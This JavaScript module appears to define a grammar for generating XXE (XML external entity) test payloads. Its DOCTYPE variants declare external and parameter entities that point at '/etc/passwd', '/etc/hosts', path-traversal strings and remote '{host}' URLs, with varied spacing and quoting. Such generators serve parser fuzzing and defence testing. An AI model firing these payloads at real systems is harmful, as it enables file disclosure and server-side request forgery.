import { xxeGenerator } from '../xxe-generator.js';

/** A second look at document types: other names, blanks, quotes, targets, and where the reference stands. */
export const secondLook = xxeGenerator({
  name: 'second-look',
  rules: {
    start: [
      '{declaration}{gap}<!DOCTYPE {n:r}{gap1}{body}',
      '{declaration}<!DOCTYPE {n:r} [{gap}{first}{gap}{second}{gap}]>{gap}<{n:r} {at}>{use}</{n:r}>',
    ],
    gap: ['', '\n', ' ', '\t', '\r\n', '<!-- a -->', '<?p q?>'],
    gap1: [' ', '\n', '\t ', '\r\n'],
    n: ['a:b', 'Root', '_r', 'html', 'xs:schema', 'wddxPacket', 'x-y', 'plist', 'catalog'],
    k: ['k', '_k', 'k.1', 'K-9', 'ä'],
    t: [
      'file:///etc/hosts',
      'file:/etc/passwd',
      '/etc/hostname',
      '../../etc/passwd',
      '../../../../../../etc/hosts',
      'http://{host}/{letters}',
      'ftp://{host}/x',
      'https://{host}/?{letters}',
      'HTTP://{host}/',
      '//{host}/x',
    ],
    body: [
      'SYSTEM "{t}"><{n:r}/>',
      "PUBLIC '' '{t}'><{n:r}/>",
      'SYSTEM "{t}" [<!ATTLIST {n:r} b CDATA "c">]><{n:r}/>',
      '[<!ENTITY % {k:k} SYSTEM "{t}">%{k:k};]><{n:r}/>',
      '[<!ENTITY % {k:k} PUBLIC "q" \'{t}\'>\n%{k:k};\n]><{n:r}/>',
    ],
    first: [
      '<!ENTITY {k:k} SYSTEM "{t}">',
      "<!ENTITY {k:k} PUBLIC 'p' '{t}'>",
      '<!ENTITY\t{k:k}\nSYSTEM\t"{t}"\n>',
      '<!ENTITY i "j"><!ENTITY {k:k} SYSTEM "{t}">',
    ],
    second: ['', '<!ELEMENT {n:r} (#PCDATA)>', '<!NOTATION q PUBLIC "q">', '<!ENTITY z "y">'],
    at: ['', 'b="c"', 'xml:space="preserve"'],
    use: ['&{k:k};', '<c>&{k:k};</c>', 'x&{k:k};y', '&{k:k};&{k:k};', '<![CDATA[<]]>&{k:k};'],
  },
});
